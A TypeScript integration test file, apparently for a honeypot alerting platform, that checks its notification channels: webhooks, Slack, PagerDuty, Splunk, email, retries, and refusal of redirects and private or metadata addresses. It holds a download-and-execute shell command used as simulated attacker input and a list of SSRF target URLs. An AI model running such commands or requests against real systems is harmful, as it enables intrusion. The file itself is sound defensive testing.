import { createHmac } from 'node:crypto'
import type { AddressInfo } from 'node:net'
import type { Channel, ChannelTest, Delivery, Notification, Page } from '@eviltwin/contract'
import pg from 'pg'
import { SMTPServer } from 'smtp-server'
import { afterAll, afterEach, beforeAll, describe, expect, inject, test } from 'vitest'
import { type HttpReceiver, startHttpReceiver } from '../../testing/http-receiver.js'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'
const SECRET = 'a secret of 24 characters'

describe.each(inject('postgresServers'))('channels on $version', (server) => {
  let api: TestPlatform
  let token: string
  let next = 0
  /** How far the clock is ahead, once more than the database corrects: pauses between attempts are not waited for. */
  let ahead = 0
  const receivers: HttpReceiver[] = []
  beforeAll(async () => {
    api = await startTestPlatform(server, {
      environment: { OUTBOUND_ALLOWED_NETWORKS: '127.0.0.0/8' },
      now: () => Date.now() + ahead,
    })
    token = await api.login()
    // A clock that is set ahead, and channels that fail, have operational alerts of their own.
    await call('/ops/silences', 'POST', {
      reason: 'tests of channels',
      ends_at: new Date(Date.now() + 86_400_000).toISOString(),
    })
  })
  afterEach(async () => {
    for (const { id } of await list()) await call(`/channels/${id}`, 'DELETE')
    for (const receiver of receivers.splice(0)) await receiver.close()
  })
  afterAll(() => api.close())

  async function call<Answer>(path: string, method = 'GET', body?: unknown): Promise<Answer> {
    token = ahead > 0 ? await api.login() : token
    const response = await api.call(path, {
      method,
      as: token,
      ...(body !== undefined && { body: JSON.stringify(body) }),
    })
    return (response.status === 204 ? null : await response.json()) as Answer
  }
  const list = async () => (await call<{ items: Channel[] }>('/channels')).items
  const add = (settings: object, more: object = {}) =>
    call<Channel>('/channels', 'POST', { name: 'a channel', settings, ...more })
  const receive = async (port?: number) => {
    const receiver = await startHttpReceiver(port)
    receivers.push(receiver)
    return receiver
  }
  const webhook = (url: string, more: object = {}) => add({ type: 'webhook', url, secret: SECRET }, more)
  const attack = async (command = HIGH) => {
    next += 1
    const source_ip = `203.0.113.${next}`
    await api.send(
      JSON.stringify({ source_ip, session: 's', occurred_at: new Date(Date.now()).toISOString(), command }),
    )
    return source_ip
  }
  const deliveries = async (query = '') => (await call<Page<Delivery>>(`/channels/deliveries${query}`)).items
  const sourcesOf = ({ requests }: HttpReceiver) =>
    requests.map(({ body }) => {
      const notice = JSON.parse(body) as Notification
      return notice.kind === 'threat_alert' ? notice.alert.source_ip : notice.kind
    })

  test('the generic webhook carries the alert, signed so that a receiver can tell', async () => {
    const receiver = await receive()
    await webhook(`${receiver.url}/in`)
    const source = await attack()
    const request = await until(() => receiver.requests[0])
    const {
      'webhook-id': id,
      'webhook-timestamp': timestamp,
      'webhook-signature': signature,
    } = request.headers
    const expected = createHmac('sha256', SECRET)
      .update(`${id}.${timestamp}.${request.body}`)
      .digest('base64')
    expect(signature).toBe(`v1,${expected}`)
    expect(JSON.parse(request.body)).toMatchObject({
      kind: 'threat_alert',
      status: 'firing',
      alert: { source_ip: source, threat_level: 'high' },
    })
    await until(async () => (await deliveries('?state=delivered')).find((each) => each.id === id))
  })

  test('each kind of system gets what it understands', async () => {
    const receiver = await receive()
    await add({ type: 'slack', secret: `${receiver.url}/slack` })
    await add({ type: 'pagerduty', url: `${receiver.url}/pagerduty`, secret: 'routing-key' })
    await add({ type: 'splunk_hec', url: receiver.url, index: 'main', secret: 'hec-token' })
    await add({ type: 'alertmanager', url: receiver.url, secret: 'bearer' })
    const source = await attack()
    await until(() => receiver.requests.length >= 4)
    const by = (path: string) => receiver.requests.find(({ url }) => url === path)
    const bodyOf = (path: string) => JSON.parse(by(path)?.body ?? 'null')
    expect(bodyOf('/slack').text).toContain(`HIGH: threat by ${source}`)
    expect(bodyOf('/pagerduty')).toMatchObject({
      routing_key: 'routing-key',
      event_action: 'trigger',
      dedup_key: expect.stringMatching(/^eviltwin\/alert\//),
      payload: { severity: 'error', source: 'generic-1' },
    })
    expect(by('/services/collector/event')?.headers.authorization).toBe('Splunk hec-token')
    expect(bodyOf('/services/collector/event')).toMatchObject({
      sourcetype: 'eviltwin:threat_alert',
      index: 'main',
      event: { alert: { source_ip: source } },
    })
    expect(by('/api/v2/alerts')?.headers.authorization).toBe('Bearer bearer')
    expect(bodyOf('/api/v2/alerts')).toMatchObject([
      { labels: { alertname: 'EvilTwinThreat', severity: 'high', source_ip: source } },
    ])
  })

  test('systems with a state of their own hear of acknowledging and resolving, in order', async () => {
    const receiver = await receive()
    await add({ type: 'pagerduty', url: `${receiver.url}/`, secret: 'routing-key' })
    const source = await attack()
    const id = await until(async () => {
      const { items } = await call<Page<{ id: string }>>(`/alerts?src_ip=${source}`)
      return items[0]?.id
    })
    await call(`/alerts/${id}`, 'PATCH', { state: 'acknowledged' })
    await call(`/alerts/${id}`, 'PATCH', { state: 'resolved' })
    await until(() => receiver.requests.length === 3)
    const told = receiver.requests.map(({ body }) => JSON.parse(body))
    expect(told.map(({ event_action }) => event_action)).toEqual(['trigger', 'acknowledge', 'resolve'])
    expect(new Set(told.map(({ dedup_key }) => dedup_key)).size).toBe(1)
  })

  test('mail arrives with the facts in it', async () => {
    const mails: string[] = []
    const smtp = new SMTPServer({
      authOptional: true,
      disabledCommands: ['STARTTLS'],
      onData(stream, _session, done) {
        let text = ''
        stream.on('data', (chunk) => {
          text += chunk
        })
        stream.on('end', () => {
          mails.push(text)
          done()
        })
      },
    })
    await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve))
    const { port } = smtp.server.address() as AddressInfo
    await add({
      type: 'email',
      host: '127.0.0.1',
      port,
      tls: 'none',
      from: 'eviltwin@example.org',
      to: ['soc@example.org'],
    })
    const source = await attack()
    const mail = await until(() => mails[0])
    expect(mail).toContain('To: soc@example.org')
    expect(mail).toContain(`Subject: [EvilTwin] HIGH: threat by ${source} on generic-1`)
    await new Promise<void>((resolve) => smtp.close(resolve))
  })

  test('what could not be delivered while the receiver was down arrives once it is back', async () => {
    const gone = await startHttpReceiver()
    await webhook(gone.url)
    await gone.close()
    const sources = [await attack(), await attack(), await attack()]
    await until(async () => (await deliveries('?state=pending')).some(({ attempts }) => attempts > 0))
    const receiver = await receive(gone.port)
    ahead += 3_600_000
    await until(() => receiver.requests.length >= 3)
    expect(sourcesOf(receiver)).toEqual(sources)
  })

  test('a receiver that answers 500 is asked again, with the same id', async () => {
    const receiver = await receive()
    receiver.answer((response) => response.writeHead(500).end('broken'))
    const { id } = await webhook(receiver.url)
    await attack()
    const failed = await until(async () => (await list()).find((channel) => channel.last_error !== null))
    expect(failed).toMatchObject({ id, pending: 1, last_error: 'answered 500 broken' })
    receiver.answer((response) => response.end('ok'))
    ahead += 3_600_000
    await until(async () => (await list())[0]?.pending === 0)
    expect(new Set(receiver.requests.map(({ headers }) => headers['webhook-id'])).size).toBe(1)
  })

  test('a receiver that hangs holds up nobody else', async () => {
    const hanging = await receive()
    hanging.answer(() => {})
    const receiver = await receive()
    await webhook(hanging.url)
    await webhook(receiver.url)
    const sources = [await attack(), await attack()]
    await until(() => hanging.requests.length > 0 && receiver.requests.length >= 2)
    expect(sourcesOf(receiver)).toEqual(sources)
    expect((await deliveries('?state=pending')).length).toBe(2)
  })

  test('a message that the receiver will never take is given up, listed, and tried again on demand', async () => {
    const receiver = await receive()
    receiver.answer((response) => response.writeHead(400).end('no such field'))
    const { id } = await webhook(receiver.url)
    await attack()
    const [dead] = await until(async () => {
      const found = await deliveries(`?state=dead&channel_id=${id}`)
      return found.length > 0 && found
    })
    expect(dead).toMatchObject({ attempts: 1, last_error: 'answered 400 no such field' })
    receiver.answer((response) => response.end('ok'))
    expect(await call('/channels/deliveries/retry', 'POST', { channel_id: id })).toEqual({ retried: 1 })
    await until(async () => (await deliveries(`?state=delivered&channel_id=${id}`)).length === 1)
  })

  test('a redirect is not followed, wherever it leads', async () => {
    const inside = await receive()
    const receiver = await receive()
    receiver.answer((response) => response.writeHead(302, { location: `${inside.url}/admin` }).end())
    const { id } = await webhook(receiver.url)
    const result = await call<ChannelTest>(`/channels/${id}/test`, 'POST')
    expect(result).toMatchObject({
      delivered: false,
      detail: expect.stringContaining('redirects are not followed'),
    })
    expect(inside.requests).toEqual([])
  })

  test('private targets are refused unless the operator allows them', async () => {
    const strict = await startTestPlatform(server)
    const receiver = await receive()
    const as = await strict.login()
    const targets = [
      receiver.url,
      receiver.url.replace('127.0.0.1', 'localhost'),
      receiver.url.replace('127.0.0.1', '[::ffff:127.0.0.1]'),
      receiver.url.replace('127.0.0.1', '0.0.0.0'),
      receiver.url.replace('127.0.0.1', '2130706433'),
      'http://169.254.169.254/latest/meta-data',
      'http://[fd00:ec2::254]/',
    ]
    for (const url of targets) {
      const added = await strict.call('/channels', {
        method: 'POST',
        as,
        body: JSON.stringify({ name: 'x', settings: { type: 'webhook', url, secret: SECRET } }),
      })
      const { id } = (await added.json()) as Channel
      const tested = await strict.call(`/channels/${id}/test`, { method: 'POST', as })
      expect([url, await tested.json()]).toEqual([
        url,
        expect.objectContaining({
          delivered: false,
          detail: expect.stringContaining('is the private or reserved address'),
        }),
      ])
    }
    expect(receiver.requests).toEqual([])
    await strict.close()
  })

  test('the test button tells what the other side said', async () => {
    const receiver = await receive()
    receiver.answer((response) => response.writeHead(403).end('who are you'))
    const { id } = await webhook(receiver.url)
    const refused = await call<ChannelTest>(`/channels/${id}/test`, 'POST')
    expect(refused).toMatchObject({ delivered: false, detail: 'answered 403 who are you' })
    receiver.answer((response) => response.end('thanks'))
    const taken = await call<ChannelTest>(`/channels/${id}/test`, 'POST')
    expect(taken).toMatchObject({ delivered: true, detail: '200 thanks' })
    expect(JSON.parse(receiver.requests[0]?.body ?? '')).toMatchObject({ kind: 'test' })
  })

  test('a channel with an hourly digest gets one summary an hour', async () => {
    const receiver = await receive()
    await webhook(receiver.url, { digest: 'hourly' })
    const sources = [await attack(), await attack()]
    await until(async () => {
      const { items } = await call<Page<unknown>>(`/alerts?src_ip=${sources[1]}`)
      return items.length > 0
    })
    ahead += 3_600_000
    const request = await until(() => receiver.requests[0])
    const digest = JSON.parse(request.body)
    expect(digest).toMatchObject({ kind: 'digest' })
    expect(digest.raised.high).toBeGreaterThanOrEqual(2)
    expect(digest.newest.map(({ source_ip }: { source_ip: string }) => source_ip)).toEqual(
      expect.arrayContaining(sources),
    )
    expect(receiver.requests).toHaveLength(1)
  })

  test('a secret is stored sealed, and never shown', async () => {
    const created = await webhook('https://hooks.example.org/x')
    expect(created).toMatchObject({ has_secret: true, settings: { url: 'https://hooks.example.org/x' } })
    expect(JSON.stringify(await list())).not.toContain(SECRET)
    const client = new pg.Client({ connectionString: api.databaseUrl })
    await client.connect()
    const { rows } = await client.query('SELECT channels::text AS row, sealed_secret FROM channels')
    await client.end()
    expect(rows[0].row).not.toContain(SECRET)
    expect(rows[0].sealed_secret.includes(Buffer.from(SECRET))).toBe(false)
  })

  test('a channel is changed; new settings need their secret', async () => {
    const { id } = await webhook('https://hooks.example.org/x')
    expect(await call(`/channels/${id}`, 'PATCH', { enabled: false, name: 'renamed' })).toMatchObject({
      enabled: false,
      name: 'renamed',
      settings: { url: 'https://hooks.example.org/x' },
    })
    const refused = await call<{ status: number }>(`/channels/${id}`, 'PATCH', {
      settings: { type: 'webhook', url: 'https://evil.example.org/' },
    })
    expect(refused.status).toBe(422)
  })
})
